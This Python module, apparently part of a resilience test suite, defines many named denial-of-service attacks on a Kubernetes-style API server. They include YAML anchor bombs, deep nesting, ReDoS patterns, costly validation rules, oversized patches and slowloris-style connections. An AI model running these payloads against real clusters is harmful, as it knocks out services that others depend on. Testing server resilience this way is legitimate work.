"""Requests that try to exhaust a server: its memory, processor, connections or time. Each function makes an attack."""

import json
import socket
from collections.abc import Callable, Iterable, Mapping
from contextlib import ExitStack, suppress
from typing import Any

from hack.attacks.client import Answer, Door

DEFAULT = "/api/v1/namespaces/default"
CONFIG_MAPS, PODS = f"{DEFAULT}/configmaps", f"{DEFAULT}/pods"
DEFINITIONS = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions"
ROLES = "/apis/rbac.authorization.k8s.io/v1/clusterroles"
BOMBS = "/apis/bomb.example.com/v1/bombs"
MEGABYTE = 2**20
YAML = {"Content-Type": "application/yaml"}
PROTOBUF = {"Content-Type": "application/vnd.kubernetes.protobuf"}
JSON_PATCH = {"Content-Type": "application/json-patch+json"}
MERGE = {"Content-Type": "application/merge-patch+json"}
STRATEGIC = {"Content-Type": "application/strategic-merge-patch+json"}
APPLY = {"Content-Type": "application/apply-patch+yaml"}

Attack = Callable[[Door], Iterable[Answer]]


def posted(place: str, body: Any, headers: Mapping[str, str] | None = None) -> Attack:
    """Return an attack that sends a body to a path; if `body` is a function, it creates the body."""

    def attack(door: Door) -> list[Answer]:
        return [door.ask("POST", place, body() if callable(body) else body, headers)]

    return attack


def patched(
    body: Any, headers: Mapping[str, str], place: str = f"{CONFIG_MAPS}/target", query: str = ""
) -> Attack:
    """Return an attack that patches the existing object."""

    def attack(door: Door) -> list[Answer]:
        return [door.ask("PATCH", place + query, body() if callable(body) else body, headers)]

    return attack


def asked(path: str, headers: Mapping[str, str] | None = None) -> Attack:
    """One read."""

    def attack(door: Door) -> list[Answer]:
        return [door.ask("GET", path, None, headers)]

    return attack


def prepare(door: Door) -> None:
    """Create the objects that the attacks need; idempotent."""
    door.ask("POST", f"{DEFAULT}/serviceaccounts", {"metadata": {"name": "default"}})
    door.ask("POST", CONFIG_MAPS, {"metadata": {"name": "target"}, "data": {"a": "x" * 1000}})
    door.ask("POST", PODS, pod("target"))
    door.ask("POST", DEFINITIONS, definition("bombs", RULES))
    for number in range(50):
        door.ask("POST", CONFIG_MAPS, {"metadata": {"name": f"large-{number}"}, "data": {"a": "x" * 200_000}})


def pod(name: str, **spec: Any) -> dict[str, Any]:
    """Return a Pod of one container."""
    return {"metadata": {"name": name}, "spec": {"containers": [{"name": "c", "image": "i"}], **spec}}


def definition(plural: str, properties: Mapping[str, Any], **schema: Any) -> dict[str, Any]:
    """Return a definition of a cluster-wide custom resource."""
    spec = {"type": "object", "properties": properties, **schema}
    version = {
        "name": "v1",
        "served": True,
        "storage": True,
        "schema": {"openAPIV3Schema": {"type": "object", "properties": {"spec": spec}}},
    }
    names = {
        "plural": plural,
        "singular": plural[:-1],
        "kind": plural.title(),
        "listKind": f"{plural.title()}List",
    }
    return {
        "metadata": {"name": f"{plural}.bomb.example.com"},
        "spec": {"group": "bomb.example.com", "names": names, "scope": "Cluster", "versions": [version]},
    }


RULES: dict[str, Any] = {
    "slow": {"type": "string", "pattern": "^(a+)+$"},
    "texts": {"type": "array", "maxItems": 200, "items": {"type": "string", "maxLength": 50},
              "x-kubernetes-validations": [{"rule": "self.all(a, self.exists(b, b.startsWith(a)))"}]},
    "unique": {"type": "array", "x-kubernetes-list-type": "set", "items": {"type": "string"}},
    "keyed": {"type": "array", "x-kubernetes-list-type": "map", "x-kubernetes-list-map-keys": ["name"],
              "items": {"type": "object", "required": ["name"], "properties": {"name": {"type": "string"}}}},
    "free": {"type": "object", "x-kubernetes-preserve-unknown-fields": True},
}  # fmt: skip


def custom(spec: Any) -> dict[str, Any]:
    """Return a custom resource of the definition above."""
    return {
        "apiVersion": "bomb.example.com/v1",
        "kind": "Bombs",
        "metadata": {"generateName": "b-"},
        "spec": spec,
    }


def nested(depth: int, inner: bytes = b"1") -> bytes:
    """Objects within objects."""
    return b'{"a":' * depth + inner + b"}" * depth


def laughs(levels: int = 9, width: int = 10) -> bytes:
    """Return YAML with exponentially growing anchors."""
    lines = ["metadata: {name: laughs}", "a0: &a0 [x]"]
    lines += [f"a{n}: &a{n} [{','.join([f'*a{n - 1}'] * width)}]" for n in range(1, levels + 1)]
    return "\n".join(lines).encode()


def deep_schema(depth: int) -> dict[str, Any]:
    """Return deeply nested schemas."""
    found: dict[str, Any] = {"type": "string"}
    for _ in range(depth):
        found = {"type": "object", "properties": {"a": found}}
    return {"a": found}


def rule(text: str, **schema: Any) -> dict[str, Any]:
    """Return a definition with a rule about a field."""
    return definition(
        "rules", {"v": {**(schema or {"type": "string"}), "x-kubernetes-validations": [{"rule": text}]}}
    )


def managed(count: int) -> dict[str, Any]:
    """Return an object with many managers, each with deep fields."""
    fields: dict[str, Any] = {}
    for _ in range(90):
        fields = {"f:a": fields}
    entry = {"operation": "Apply", "apiVersion": "v1", "fieldsType": "FieldsV1", "fieldsV1": fields}
    entries = [{**entry, "manager": f"m{n}", "time": "2026-01-01T00:00:00Z"} for n in range(count)]
    return {"metadata": {"name": "managed", "managedFields": entries}}


def _chunked(door: Door) -> list[Answer]:
    head = door.request(
        "POST", CONFIG_MAPS, None, {"Transfer-Encoding": "chunked", "Content-Type": "application/json"}
    )
    piece = b"10000\r\n" + b" " * 0x10000 + b"\r\n"
    return door.raw(head, *[piece] * 80)


def _small_chunks(door: Door) -> list[Answer]:
    head = door.request(
        "POST", CONFIG_MAPS, None, {"Transfer-Encoding": "chunked", "Content-Type": "application/json"}
    )
    return door.raw(head, b"1\r\n \r\n" * 200_000 + b"0\r\n\r\n")


def _claims_more(door: Door) -> list[Answer]:
    return door.raw(door.request("POST", CONFIG_MAPS, b"{}", {"Content-Length": str(10**15)}))


def _many_managers(door: Door) -> list[Answer]:
    body = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "shared"}, "data": {"a": "1"}}
    return [
        door.ask("PATCH", f"{CONFIG_MAPS}/shared?fieldManager={'m' * 100}{number}", body, APPLY)
        for number in range(60)
    ]


def _generated_names(door: Door) -> list[Answer]:
    body = {"metadata": {"generateName": "storm-"}}
    sent = door.request("POST", CONFIG_MAPS, body)
    return door.raw(sent * 150, answers=150)


def _many_definitions(door: Door) -> list[Answer]:
    return [door.ask("POST", DEFINITIONS, definition(f"many{number}s", {})) for number in range(25)]


def _many_watches(door: Door) -> list[Answer]:
    found: list[Answer] = []
    with ExitStack() as stack:
        for _ in range(30):
            with suppress(OSError):
                connection = stack.enter_context(door.connect())
                connection.sendall(door.request("GET", f"{CONFIG_MAPS}?watch=1"))
                found.append(Answer(int(connection.recv(64).split(b" ")[1] or b"0")))
    return found


def _half_requests(door: Door) -> list[Answer]:
    with ExitStack() as stack:
        for _ in range(60):
            with suppress(OSError):
                stack.enter_context(door.connect()).sendall(
                    b"GET /api/v1/namespaces HTTP/1.1\r\nHost: x\r\nA: "
                )
        return [door.ask("GET", "/readyz")]


def _half_bodies(door: Door) -> list[Answer]:
    sent = door.request("POST", CONFIG_MAPS, b"{", {"Content-Length": "100000"})
    with ExitStack() as stack:
        for _ in range(40):
            with suppress(OSError):
                stack.enter_context(door.connect()).sendall(sent)
        return [door.ask("GET", "/readyz")]


def _half_handshakes(door: Door) -> list[Answer]:
    with ExitStack() as stack:
        for _ in range(100):
            with suppress(OSError):
                plain = stack.enter_context(socket.create_connection(("127.0.0.1", door.port), timeout=5))
                plain.sendall(b"\x16\x03\x01\x02\x00\x01\x00")
        return [door.ask("GET", "/readyz")]


def _slow_readers(door: Door) -> list[Answer]:
    with ExitStack() as stack:
        for _ in range(15):
            with suppress(OSError):
                connection = stack.enter_context(door.connect())
                connection.sendall(door.request("GET", CONFIG_MAPS) * 5)
                connection.recv(10)
        return [door.ask("GET", "/readyz")]


def _vanishing(door: Door) -> list[Answer]:
    for _ in range(40):
        with suppress(OSError), door.connect() as connection:
            connection.sendall(door.request("GET", CONFIG_MAPS))
    return [door.ask("GET", "/readyz")]


def _made_up_tenants(door: Door) -> list[Answer]:
    bare = Door(door.port, door.tls)
    sent = b"".join(bare.request("GET", f"/tenants/made-up-{number}/version") for number in range(100))
    return bare.raw(sent, answers=100)


def _many_webhooks(door: Door) -> list[Answer]:
    place = "/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations"
    hook = {
        "admissionReviewVersions": ["v1"], "sideEffects": "None", "failurePolicy": "Ignore", "timeoutSeconds": 1,
        "clientConfig": {"url": "https://127.0.0.1:1/"}, "matchPolicy": "Exact",
        "rules": [{"apiGroups": ["nowhere"], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["x"]}],
    }  # fmt: skip
    body = {
        "metadata": {"name": "many"},
        "webhooks": [{**hook, "name": f"n{number}.x.y"} for number in range(500)],
    }
    answers = [
        door.ask("POST", place, body),
        door.ask("POST", CONFIG_MAPS, {"metadata": {"generateName": "w-"}}),
    ]
    door.ask("DELETE", f"{place}/many")
    return answers


ATTACKS: dict[str, Attack] = {
    "deep objects": posted(CONFIG_MAPS, lambda: nested(100_000)),
    "deep arrays": posted(CONFIG_MAPS, lambda: b"[" * 1_000_000),
    "deep objects in a field": posted(CONFIG_MAPS, lambda: b'{"metadata":' + nested(5000) + b"}"),
    "deep objects in a custom resource": posted(
        BOMBS, lambda: json.dumps(custom({"free": 0})).encode().replace(b"0}", nested(5000) + b"}")
    ),
    "a body above the limit": posted(CONFIG_MAPS, lambda: b" " * (3 * MEGABYTE + 1)),
    "a body above the limit, in chunks": _chunked,
    "a body of one byte chunks": _small_chunks,
    "a body that claims a petabyte": _claims_more,
    "a body of empty objects": posted(CONFIG_MAPS, lambda: b'{"a":[' + b"{}," * 900_000 + b"{}]}"),
    "a body of a million numbers": posted(BOMBS, lambda: b'{"spec":{"free":{"a":[' + b"1," * 1_400_000 + b"1]}}}"),
    "a packed body": posted(CONFIG_MAPS, lambda: b"\x1f\x8b" + b"\0" * 1000, {"Content-Encoding": "gzip"}),
    "a number of a million digits": posted(BOMBS, lambda: b'{"spec":{"free":{"a":' + b"9" * 1_000_000 + b"}}}"),
    "a number of a huge exponent": posted(BOMBS, b'{"spec":{"free":{"a":1e999999999}}}'),
    "a quantity of a huge exponent": posted(
        PODS, pod("q", containers=[{"name": "c", "image": "i", "resources": {"limits": {"cpu": "1e999999999"}}}])
    ),
    "a quantity of a million digits": posted(
        PODS, lambda: pod("q", containers=[{"name": "c", "image": "i", "resources": {"limits": {"cpu": "9" * 1_000_000}}}])
    ),
    "unknown fields": posted(f"{CONFIG_MAPS}?fieldValidation=Warn", lambda: {f"field{n}": 1 for n in range(100_000)}),
    "duplicate fields": posted(
        f"{CONFIG_MAPS}?fieldValidation=Strict", lambda: b"{" + b'"a":1,' * 300_000 + b'"a":1}'
    ),
    "YAML anchors": posted(CONFIG_MAPS, laughs(), YAML),
    "YAML anchors in few levels": posted(CONFIG_MAPS, laughs(3, 300), YAML),
    "YAML merge keys": posted(
        CONFIG_MAPS, lambda: b"a: &a {b: 1}\n" + b"".join(b"c%d: {<<: [*a, *a, *a, *a]}\n" % n for n in range(20_000)), YAML
    ),
    "YAML deep flow": posted(CONFIG_MAPS, lambda: b"a: " + b"[" * 100_000, YAML),
    "YAML deep dashes": posted(CONFIG_MAPS, lambda: b"- " * 100_000, YAML),
    "YAML deep mappings": posted(CONFIG_MAPS, lambda: b"? " * 50_000, YAML),
    "YAML of megabytes": posted(CONFIG_MAPS, lambda: b"a: [" + b"x," * 1_200_000 + b"x]", YAML),
    "YAML keys": posted(CONFIG_MAPS, lambda: b"".join(b"k%d: {}\n" % n for n in range(200_000)), YAML),
    "protobuf that claims gigabytes": posted(CONFIG_MAPS, b"k8s\x00\x0a\xff\xff\xff\xff\x07" + b"\0" * 100, PROTOBUF),
    "protobuf within protobuf": posted(CONFIG_MAPS, lambda: b"k8s\x00" + b"\x12\x80\x80\x04" * 20_000, PROTOBUF),
    "protobuf of endless numbers": posted(CONFIG_MAPS, lambda: b"k8s\x00" + b"\xff" * 500_000, PROTOBUF),
    "CBOR within CBOR": posted(CONFIG_MAPS, lambda: b"\x81" * 500_000, {"Content-Type": "application/cbor"}),
    "ten thousand operations": patched(
        lambda: [{"op": "add", "path": "/data/a", "value": "b"}] * 10_001, JSON_PATCH
    ),
    "copies of copies": patched(
        [{"op": "copy", "from": "/data", "path": f"/data/c{n}"} for n in range(40)], JSON_PATCH
    ),
    "copies of a large text": patched(
        lambda: [{"op": "add", "path": "/data/big", "value": "x" * 500_000}]
        + [{"op": "copy", "from": "/data/big", "path": f"/data/c{n}"} for n in range(2000)], JSON_PATCH
    ),
    "a pointer of many parts": patched(lambda: [{"op": "test", "path": "/a" * 200_000, "value": 1}], JSON_PATCH),
    "tests of deep values": patched(
        lambda: b'[{"op":"test","path":"/data","value":' + nested(9000) + b"}]", JSON_PATCH
    ),
    "an index that is huge": patched([{"op": "add", "path": "/metadata/finalizers/99999999999", "value": "a/b"}], JSON_PATCH),
    "a deep merge patch": patched(lambda: nested(9000), MERGE),
    "a wide merge patch": patched(lambda: {"data": {f"k{n}": "v" for n in range(100_000)}}, MERGE),
    "an order of many elements": patched(
        lambda: {"spec": {"$setElementOrder/containers": [{"name": f"c{n}"} for n in range(40_000)],
                          "containers": [{"name": f"c{n}", "image": "i"} for n in range(4000)]}}, STRATEGIC, f"{PODS}/target"
    ),
    "deletions of many elements": patched(
        lambda: {"spec": {"tolerations": [{"$patch": "delete", "key": f"k{n}"} for n in range(30_000)]}},
        STRATEGIC, f"{PODS}/target"
    ),
    "an applied list of many keys": patched(
        lambda: {"apiVersion": "bomb.example.com/v1", "kind": "Bombs", "metadata": {"name": "k"},
                 "spec": {"keyed": [{"name": f"n{n}"} for n in range(20_000)]}}, APPLY, f"{BOMBS}/k", "?fieldManager=a"
    ),
    "an applied YAML bomb": patched(laughs(), APPLY, query="?fieldManager=a"),
    "managed fields of thousands": posted(CONFIG_MAPS, lambda: managed(1500)),
    "managers by the dozen": _many_managers,
    "a value for a slow pattern": posted(BOMBS, lambda: custom({"slow": "a" * 200_000 + "!"})),
    "a pattern that multiplies": posted(
        DEFINITIONS, definition("patterns", {"a": {"type": "string", "pattern": "((a{1000}){1000}){1000}"}})
    ),
    "a pattern of a megabyte": posted(
        DEFINITIONS, lambda: definition("patterns", {"a": {"type": "string", "pattern": "(a|b)" * 200_000}})
    ),
    "a rule of a cube": posted(
        DEFINITIONS,
        rule("self.all(a, self.all(b, self.all(c, a + b + c != '')))", type="array", items={"type": "string"}),
    ),
    "a rule that doubles": posted(DEFINITIONS, rule("size(" + "self + " * 2000 + "self) > 0")),
    "a rule of a megabyte": posted(DEFINITIONS, lambda: rule("self != '" + "x" * 1_000_000 + "'")),
    "a rule of deep parentheses": posted(DEFINITIONS, lambda: rule("(" * 5000 + "true" + ")" * 5000)),
    "a rule with a slow pattern": posted(DEFINITIONS, rule("self.matches('(a+)+$') && self.matches('((a{900}){900}){900}')")),
    "a value for a quadratic rule": posted(BOMBS, lambda: custom({"texts": [f"{n:050}" for n in range(200)]})),
    "a list to be unique": posted(BOMBS, lambda: custom({"unique": [f"n{n}" for n in range(60_000)]})),
    "a schema of thousands": posted(
        DEFINITIONS, lambda: definition("wides", {f"p{n}": {"type": "string", "maxLength": 5} for n in range(10_000)})
    ),
    "a deep schema": posted(DEFINITIONS, lambda: definition("deeps", deep_schema(300))),
    "definitions by the dozen": _many_definitions,
    "columns by the thousand": posted(
        DEFINITIONS,
        lambda: {**(made := definition("columns", {})), "spec": {**made["spec"], "versions": [{
            **made["spec"]["versions"][0],
            "additionalPrinterColumns": [{"name": f"c{n}", "type": "string", "jsonPath": ".a" * 50} for n in range(5000)]}]}},
    ),
    "containers by the thousand": posted(
        PODS, lambda: pod("many", containers=[{"name": f"c{n}", "image": "i"} for n in range(8_000)])
    ),
    "ports by the thousand": posted(
        PODS, lambda: pod("ports", containers=[{"name": "c", "image": "i", "ports": [
            {"containerPort": 1 + n % 65535, "hostPort": 1 + n % 65535} for n in range(30_000)]}])
    ),
    "variables by the thousand": posted(
        PODS, lambda: pod("env", containers=[{"name": "c", "image": "i", "env": [
            {"name": f"V{n}", "value": f"$(V{n - 1})"} for n in range(30_000)]}])
    ),
    "volumes by the thousand": posted(
        PODS, lambda: pod("volumes", volumes=[{"name": f"v{n}", "emptyDir": {}} for n in range(12_000)])
    ),
    "tolerations by the thousand": posted(
        PODS, lambda: pod("tolerant", tolerations=[{"key": f"k{n}", "operator": "Exists"} for n in range(30_000)])
    ),
    "terms of affinity by the thousand": posted(
        PODS, lambda: pod("affine", affinity={"podAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": [
            {"topologyKey": "a", "labelSelector": {"matchLabels": {"a": f"{n}"}}} for n in range(15_000)]}})
    ),
    "Service ports by the thousand": posted(
        f"{DEFAULT}/services",
        lambda: {"metadata": {"name": "s"}, "spec": {"ports": [{"name": f"p{n}", "port": 1 + n % 65535} for n in range(30_000)]}},
    ),
    "labels by the thousand": posted(
        CONFIG_MAPS, lambda: {"metadata": {"name": "l", "labels": {f"k{n}": "v" for n in range(100_000)}}}
    ),
    "annotations of a megabyte": posted(CONFIG_MAPS, lambda: {"metadata": {"name": "a", "annotations": {"a": "x" * MEGABYTE}}}),
    "finalizers by the thousand": posted(
        CONFIG_MAPS, lambda: {"metadata": {"name": "f", "finalizers": [f"a.b/f{n}" for n in range(80_000)]}}
    ),
    "owners by the thousand": posted(
        CONFIG_MAPS, lambda: {"metadata": {"name": "o", "ownerReferences": [
            {"apiVersion": "v1", "kind": "Secret", "name": f"n{n}", "uid": f"{n}", "controller": True} for n in range(20_000)]}}
    ),
    "roles of thousands of rules": posted(
        ROLES, lambda: {"metadata": {"generateName": "r-"}, "rules": [
            {"apiGroups": [f"g{n}"], "resources": [f"r{n}"], "verbs": ["get", "list"]} for n in range(30_000)]}
    ),
    "a role of a huge product": posted(
        ROLES, lambda: {"metadata": {"generateName": "p-"}, "rules": [{
            key: [f"{key}{n}" for n in range(400)] for key in ("apiGroups", "resources", "resourceNames", "verbs")}]}
    ),
    "a Secret of megabytes": posted(f"{DEFAULT}/secrets", lambda: {"metadata": {"name": "s"}, "stringData": {"a": "x" * 2_500_000}}),
    "a custom resource of megabytes": posted(BOMBS, lambda: custom({"free": {"a": "x" * 2_900_000}})),
    "names by the hundred": _generated_names,
    "a selector of thousands of terms": asked(f"{CONFIG_MAPS}?labelSelector=" + ",".join(f"a{n}!=b" for n in range(1400))),
    "a selector of one long set": asked(f"{CONFIG_MAPS}?labelSelector=a+notin+(" + ",".join(f"b{n}" for n in range(1800)) + ")"),
    "a selector that is all parentheses": asked(f"{CONFIG_MAPS}?labelSelector=" + "(" * 15_000),
    "a field selector of thousands of terms": asked(f"{CONFIG_MAPS}?fieldSelector=" + "metadata.name!=x," * 900 + "metadata.name!=y"),
    "parameters by the thousand": asked(f"{CONFIG_MAPS}?" + "&".join(f"a{n}=b" for n in range(2500))),
    "a query of a megabyte": asked(f"{CONFIG_MAPS}?a=" + "b" * MEGABYTE),
    "headers by the thousand": asked(CONFIG_MAPS, {f"X-{n}": "a" for n in range(5000)}),
    "a header of a megabyte": asked(CONFIG_MAPS, {"X": "a" * MEGABYTE}),
    "media types by the thousand": asked(CONFIG_MAPS, {"Accept": ",".join(["application/json;q=0.1;a=b"] * 600)}),
    "a list as a table": asked(CONFIG_MAPS, {"Accept": "application/json;as=Table;v=v1;g=meta.k8s.io"}),
    "a list in YAML": asked(CONFIG_MAPS, {"Accept": "application/yaml"}),
    "a list, packed": asked(CONFIG_MAPS, {"Accept-Encoding": "gzip"}),
    "a list of everything, one at a time": asked(f"{CONFIG_MAPS}?limit=1"),
    "documents of every kind": asked("/openapi/v2"),
    "half requests": _half_requests,
    "half bodies": _half_bodies,
    "half handshakes": _half_handshakes,
    "readers that do not read": _slow_readers,
    "readers that vanish": _vanishing,
    "watches by the dozen": _many_watches,
    "webhooks by the hundred": _many_webhooks,
    "tenants that are made up": _made_up_tenants,
}  # fmt: skip
"""The attacks by name; each runs with the permissions of a tenant's administrator."""
